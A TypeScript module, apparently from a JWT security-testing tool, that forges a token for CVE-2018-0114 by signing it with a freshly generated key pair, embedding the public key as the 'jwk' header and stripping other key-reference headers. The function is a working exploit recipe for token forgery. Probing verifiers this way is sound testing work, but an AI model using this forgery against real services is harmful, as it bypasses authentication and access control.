import { CompactSign, exportJWK, generateKeyPair } from 'jose';
import { decodeBase64Url } from '../token/base64url';
import { type ProbeToken, type Tampered, withMembers } from './token-parts';

/** Algorithms jose can make a key pair for; an HS (or other) token gets an RS256 key, as in the known attacks. */
const PAIR_ALGS = new Set([
  'RS256',
  'RS384',
  'RS512',
  'PS256',
  'PS384',
  'PS512',
  'ES256',
  'ES384',
  'ES512',
  'EdDSA',
  'Ed25519',
]);

/**
 * CVE-2018-0114: a key pair made on the spot, its public half embedded as the `jwk` header, the token
 * signed with its private half. Header members that name another key (`kid`, `jku`, `x5u`, `x5c`,
 * `x5t`) are dropped, so a verifier has nothing to pick but the embedded key. `undefined` if jose fails.
 */
export async function embeddedJwkRecipe(t: ProbeToken): Promise<Tampered | undefined> {
  const alg = PAIR_ALGS.has(t.alg) ? t.alg : 'RS256';
  const payload = decodeBase64Url(t.payloadSegment);
  if (!payload.ok) return undefined;
  try {
    const { publicKey, privateKey } = await generateKeyPair(alg);
    const jwk = await exportJWK(publicKey);
    const gone = { kid: undefined, jku: undefined, x5u: undefined, x5c: undefined, x5t: undefined };
    const header = withMembers(t.header, { ...gone, alg, jwk });
    const token = await new CompactSign(payload.bytes)
      .setProtectedHeader(JSON.parse(JSON.stringify(header)))
      .sign(privateKey);
    return {
      id: 'embedded-jwk',
      kind: 'embedded-jwk',
      change: `signed with a new ${jwk.kty} key pair (alg "${alg}") whose public key is embedded as the jwk header`,
      token,
    };
  } catch {
    return undefined;
  }
}
